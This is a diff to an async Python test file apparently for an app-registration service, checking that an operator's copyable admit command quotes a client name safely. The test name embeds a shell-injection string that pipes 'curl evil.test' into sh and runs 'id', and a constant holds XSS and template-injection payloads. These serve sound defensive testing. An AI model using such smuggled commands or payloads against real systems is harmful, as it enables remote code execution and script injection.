@@ -22,8 +22,10 @@ from tests.registration.owners import (
     WISH,
     Browser,
     in_use,
+    operator,
     owner,
     registered,
+    seen_in,
     token_status,
     turned_on,
 )
@@ -277,8 +279,9 @@ async def test_an_operator_may_copy_the_command(world: World) -> None:
     maria = await owner(world)
     name = "Cia '; curl evil.test | sh; $(id) `id`"
     client, _ = await registered(world, maria, name=name)
+    seen = seen_in(await operator(world, "list"), client)
     shown = maria.text.partition("<pre")[2].partition("<code>")[2].partition("</code>")[0]
-    assert shlex.split(shown) == ["linkid", "application", "admit", client, "--name", name]
+    assert shlex.split(shown) == ["linkid", "application", "admit", client, "--name", name, "--seen", seen]
 
 
 NASTY = "<script>alert(1)</script>\"'><img src=x onerror=alert(1)>{{1234567*7}}"
